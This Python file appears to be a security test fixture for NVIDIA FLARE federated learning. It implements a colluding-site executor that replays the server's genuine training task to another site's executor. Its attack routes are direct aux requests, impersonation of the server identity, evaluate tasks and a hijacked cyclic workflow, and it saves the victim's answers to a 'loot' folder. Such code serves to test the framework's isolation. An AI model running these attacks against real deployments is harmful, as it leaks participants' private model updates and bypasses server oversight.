# SPDX-License-Identifier: Apache-2.0
"""What a colluding site does: it asks another site's executor for an update behind the server's back.

The test copies this file into the kit of one site, whose operator owns what runs there; the victim gets no code. Each
attack carries the genuine task that the server has just sent here, so that protocol, run and model are right.
"""

import copy
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from nvflare.apis.dxo import DXO, DataKind
from nvflare.apis.event_type import EventType
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import FLContextKey, ReservedKey, ReservedTopic, ReturnCode
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import ReservedHeaderKey, Shareable, make_reply
from nvflare.apis.signal import Signal
from nvflare.app_common.app_constant import AppConstants
from nvflare.app_common.ccwf.common import Constant

LOOT = "loot"
DONE = "done"
REQUEST = "fdg_request"
TIMEOUT_S = 30.0
PATIENCE_S = 3.0
PROJECT = "fdg"  # as which the server speaks to its sites

Genuine = tuple[dict[str, torch.Tensor], dict[str, Any]]  # model, and meta, of a task of the server's


class Colluder(Executor):
    """Takes what the cyclic workflow sends to a site, keeps it in a file, and attacks ``victims``.

    It starts with the first training task of a job, from what came with it; what it got lies in ``loot/`` of its kit,
    one file per message.
    """

    def __init__(self, victims: list[str]) -> None:
        super().__init__()
        self.victims = victims
        self._genuine: Genuine | None = None
        self._attacks = [threading.Thread(target=self._attack, args=(victim,), daemon=True) for victim in victims]
        self._keeping = threading.Lock()

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        """Learn what a genuine task looks like, and begin; the round lasts until all ways were tried."""
        if event_type == EventType.START_RUN:
            self._engine = fl_ctx.get_engine()
            self.folder = Path(self._engine.get_workspace().get_root_dir()) / LOOT
            self.folder.mkdir(exist_ok=True)
        task = fl_ctx.get_prop(FLContextKey.TASK_NAME)
        if event_type == EventType.BEFORE_TASK_EXECUTION and task == "train" and self._genuine is None:
            dxo = fl_ctx.get_prop(FLContextKey.TASK_DATA)["DXO"]
            self._genuine = dict(dxo["data"]), {REQUEST: dxo["meta"][REQUEST]}
            self._begin()

    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        """Answer a task of the cyclic workflow; whoever sent it, what is in it is kept."""
        self._note(task_name, repr(shareable))
        return make_reply(ReturnCode.OK)

    def _begin(self) -> None:
        """Start all attacks, and return when they are over: the server waits for this site until then."""
        for attack in self._attacks:
            attack.start()
        for attack in self._attacks:
            attack.join()

    def _attack(self, victim: str) -> None:
        for name, attack in self._ways(victim).items():
            try:
                self._note(f"answer of {victim} to {name}", repr(attack()))
            except Exception as error:  # noqa: BLE001 - the next way may work
                self._note(f"answer of {victim} to {name}", repr(error))
        (self.folder / f"{DONE}.{victim}").write_text("", encoding="utf-8")

    def _ways(self, victim: str) -> dict[str, Callable[[], Shareable]]:
        """Return the attacks by name, each of which returns the victim's last answer."""
        return {
            "plain": lambda: self._send(victim, "train", self._task(victim)),
            "as the server": lambda: self._send(victim, "train", self._task(victim), identity=PROJECT),
            "evaluate": lambda: self._send(victim, "evaluate", self._task(victim)),
            "cyclic": lambda: self._cyclic(victim),
        }

    def _task(self, victim: str) -> Shareable:
        """Return a training task like the server's, with all that the cyclic workflow looks for."""
        assert self._genuine is not None
        state, meta = self._genuine
        task = DXO(DataKind.WEIGHTS, data=dict(state), meta=copy.deepcopy(meta)).to_shareable()
        task.set_header(AppConstants.CURRENT_ROUND, 0)
        task.set_header(AppConstants.NUM_ROUNDS, 1)
        task.set_header(Constant.CLIENT_ORDER, [victim, self._me])
        return task

    def _cyclic(self, victim: str) -> Shareable:
        """Configure FLARE's cyclic workflow at the victim, as its server half would, and ask for one step."""
        config = {
            FLContextKey.WORKFLOW: f"stolen_{time.monotonic_ns()}",
            **{
                AppConstants.NUM_ROUNDS: 1,
                Constant.START_ROUND: 0,
                Constant.ORDER: "fixed",
                Constant.PRIVATE_P2P: False,
            },
            **{key: [victim, self._me] for key in (Constant.RESULT_CLIENTS, Constant.CLIENTS)},
        }
        self._send(victim, "cyclic_config", Shareable({Constant.CONFIG: config}))
        answer = self._send(victim, "cyclic_learn", self._task(victim))
        time.sleep(PATIENCE_S)  # the victim's workflow does the task in a thread of its own, and sends what comes of it
        return answer

    def _send(self, victim: str, task: str, data: Shareable, identity: str | None = None) -> Shareable:
        """Hand a task to the victim's runner, past the server; ``identity``: as whom."""
        with self._engine.new_context() as fl_ctx:
            if identity is not None:
                fl_ctx.put(ReservedKey.IDENTITY_NAME, identity, private=False, sticky=False)
            data.set_header(ReservedHeaderKey.TASK_NAME, task)
            data.set_header(ReservedHeaderKey.TASK_ID, f"{task}-{time.monotonic_ns()}")
            answers = self._engine.send_aux_request([victim], ReservedTopic.DO_TASK, data, TIMEOUT_S, fl_ctx)
        answer = answers.get(victim)
        return answer if isinstance(answer, Shareable) else Shareable({"answer": repr(answer)})

    def _note(self, what: str, text: str) -> None:
        with self._keeping:
            name = f"{len(list(self.folder.iterdir())):03d} {what}.txt"
            (self.folder / name).write_text(text, encoding="utf-8")

    @property
    def _me(self) -> str:
        return str(self._engine.client.client_name)
